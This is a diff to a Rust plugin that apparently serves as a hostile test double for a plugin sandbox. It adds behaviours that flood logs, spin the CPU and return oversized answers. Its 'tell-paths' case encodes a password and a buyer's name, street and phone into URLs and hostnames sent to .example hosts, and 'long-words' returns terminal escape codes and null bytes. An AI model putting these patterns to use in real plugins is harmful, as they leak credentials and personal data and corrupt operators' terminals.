@@ -10,7 +10,7 @@ use provider_sdk::types::*;
 use provider_sdk::{Call, Provider};
 
 /// Every behaviour, and what it does.
-pub const BEHAVIOURS: [(&str, &str); 17] = [
+pub const BEHAVIOURS: [(&str, &str); 24] = [
     ("honest", "sends one request and approves if the answer is 200"),
     ("spin", "computes for ever"),
     ("grow", "takes memory for ever"),
@@ -28,6 +28,13 @@ pub const BEHAVIOURS: [(&str, &str); 17] = [
     ("tell-secrets", "logs its settings and the buyer, whole and in part"),
     ("big-answer", "answers with rows of 64 MiB of text"),
     ("spin-after", "sends, then computes for ever"),
+    ("raw", "sends one request with the `method` and the `body` of its settings: none, empty or some"),
+    ("two-requests", "sends one request to /first, one to /second, then says what `claim` says"),
+    ("spin-denied", "computes between requests that are denied"),
+    ("spin-answered", "computes between requests that are answered"),
+    ("long-log", "logs lines of megabytes"),
+    ("tell-paths", "puts its password and the buyer into paths and names of hosts"),
+    ("long-words", "answers with ids, codes and words that no platform can keep"),
 ];
 
 /// The plugin.
@@ -57,6 +64,9 @@ impl Provider for Hostile {
                 ),
                 field("url", SettingKind::Url, true),
                 field("password", SettingKind::Secret, false),
+                field("method", SettingKind::Text, false),
+                field("body", SettingKind::Text, false),
+                field("claim", SettingKind::Text, false),
             ],
             carriers: Vec::new(),
             batch_limits: BatchLimits { credit: 10, check_credit: 0, cancel: 1, sync_tracking: 1 },
@@ -115,6 +125,51 @@ impl Provider for Hostile {
                 orders.iter().for_each(|order| log(&format!("{order:?}")));
                 all(outcome(post(call, b"x".to_vec()).await))
             }
+            "raw" => all(outcome(raw(call).await)),
+            "two-requests" => {
+                let url = |path: &str| format!("{}{path}", call.settings.get("url"));
+                for path in ["first", "second"] {
+                    let _ = call.http.send(Request::post(url(path), "text/plain", b"x".to_vec())).await;
+                }
+                all(claim(call.settings.get("claim")))
+            }
+            "spin-denied" => {
+                for _ in 0..256 {
+                    let elsewhere = "http://203.0.113.1/".to_owned();
+                    let _ = call.http.send(Request::post(elsewhere, "text/plain", b"x".to_vec())).await;
+                    compute();
+                }
+                all(approved())
+            }
+            "spin-answered" => {
+                for _ in 0..256 {
+                    let _ = post(call, b"x".to_vec()).await;
+                    compute();
+                }
+                all(approved())
+            }
+            "long-log" => {
+                let line = format!("{} ", call.settings.get("password")).repeat(100_000);
+                (0..100).for_each(|_| log(&line));
+                all(approved())
+            }
+            "tell-paths" => {
+                let (password, buyer) = (call.settings.get("password"), &orders[0].buyer);
+                let (name, street) = (percent(&buyer.name), percent(&buyer.address.street));
+                for url in [
+                    format!("{}{password}/{name}/{street}?{password}", call.settings.get("url")),
+                    format!("http://{password}.example/{}", buyer.phone),
+                    format!("https://{password}.EXAMPLE:8443/{password}"),
+                    format!("http://{}.example/{}", "x".repeat(200), "y".repeat(10_000)),
+                ] {
+                    let _ = call.http.send(Request::post(url, "text/plain", b"x".to_vec())).await;
+                }
+                all(approved())
+            }
+            "long-words" => {
+                let _ = post(call, b"x".to_vec()).await;
+                long_words(orders.len())
+            }
             "big-answer" => all(Err(Failure::Refused(reason(None, "x".repeat(64 << 20))))),
             _ => all(outcome(post(call, b"x".to_vec()).await)),
         }
@@ -156,6 +211,90 @@ fn outcome(sent: Result<Response, SendError>) -> Result<Decision, Failure> {
 fn denied(sent: &[Result<Response, SendError>]) -> Failure {
     let refused = sent.iter().filter(|result| result.is_err()).count();
     Failure::Refused(reason(None, format!("{refused} refused")))
+}
+
+/// Sends through `wasi:http` itself: the SDK always gives a body and its length.
+async fn raw<T: Transport>(call: &Call<'_, T>) -> Result<Response, SendError> {
+    use wasip3::http::client;
+    use wasip3::http::types::{Fields, Method, Request as WasiRequest, Scheme};
+    let url = call.settings.get("url").trim_start_matches("http://").trim_end_matches('/');
+    let body = call.settings.get("body");
+    let (mut contents, stream) = wasip3::wit_stream::new();
+    let stream = (body != "none").then_some(stream);
+    let (trailers, no_trailers) = wasip3::wit_future::new(|| Ok(None));
+    let (request, _transmitted) = WasiRequest::new(Fields::new(), stream, no_trailers, None);
+    let method = match call.settings.get("method") {
+        "GET" => Method::Get,
+        "HEAD" => Method::Head,
+        "POST" => Method::Post,
+        "PUT" => Method::Put,
+        "DELETE" => Method::Delete,
+        "PATCH" => Method::Patch,
+        "OPTIONS" => Method::Options,
+        other => Method::Other(other.to_owned()),
+    };
+    let _ = request.set_method(&method);
+    let _ = request.set_scheme(Some(&Scheme::Http));
+    let _ = request.set_authority(Some(url));
+    let _ = request.set_path_with_query(Some("/"));
+    let write_body = async move {
+        if body == "some" {
+            contents.write_all(b"body".to_vec()).await;
+        }
+        drop(contents);
+        let _ = trailers.write(Ok(None)).await;
+    };
+    let (answer, ()) = futures::join!(client::send(request), write_body);
+    let answer = answer?;
+    let status = answer.get_status_code();
+    Ok(Response { status, content_type: None, retry_after: None, body: Vec::new() })
+}
+
+/// The row that `claim` names.
+fn claim(claim: &str) -> Result<Decision, Failure> {
+    let reason = || reason(None, "so I say");
+    Err(match claim {
+        "invalid" => Failure::Invalid(Vec::new()),
+        "unauthorized" => Failure::Unauthorized(reason()),
+        "already" => Failure::Already(reason()),
+        "refused" => Failure::Refused(reason()),
+        "not-sent" => Failure::NotSent(reason()),
+        "busy" => Failure::Busy((reason(), None)),
+        "unsupported" => Failure::Unsupported,
+        "outcome-unknown" => Failure::OutcomeUnknown(reason()),
+        _ => return Ok(Decision { transaction_id: Some("T1".to_owned()), verdict: Verdict::Approved }),
+    })
+}
+
+/// Rows that are too long or not to be shown, each in its way.
+fn long_words(rows: usize) -> Vec<Result<Decision, Failure>> {
+    let long = "long\u{1b}[2J\0".repeat(100_000);
+    let said = || reason(Some(long.clone()), long.clone());
+    let decided = |id: &str, verdict| Ok(Decision { transaction_id: Some(id.to_owned()), verdict });
+    let mut all = vec![
+        decided("A\0B", Verdict::Approved),
+        decided(&"1".repeat(65), Verdict::Approved),
+        decided("A-1", Verdict::Approved),
+        decided("A-2", Verdict::Rejected(vec![reason(None, "short"); 20_000])),
+        Err(Failure::Refused(said())),
+        Err(Failure::Invalid(vec![FieldProblem { field: long.clone(), reason: said() }])),
+        Err(Failure::Busy((said(), Some(u32::MAX)))),
+    ];
+    all.truncate(rows);
+    all
+}
+
+/// Everything but letters and digits as `%XX`.
+fn percent(text: &str) -> String {
+    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
+}
+
+/// Computes for some 100 milliseconds: a plugin has no clock, so this is a number of steps.
+fn compute() {
+    let mut x = 0u64;
+    for _ in 0..100_000_000u64 {
+        x = std::hint::black_box(x.wrapping_add(1));
+    }
 }
 
 fn log(words: &str) {
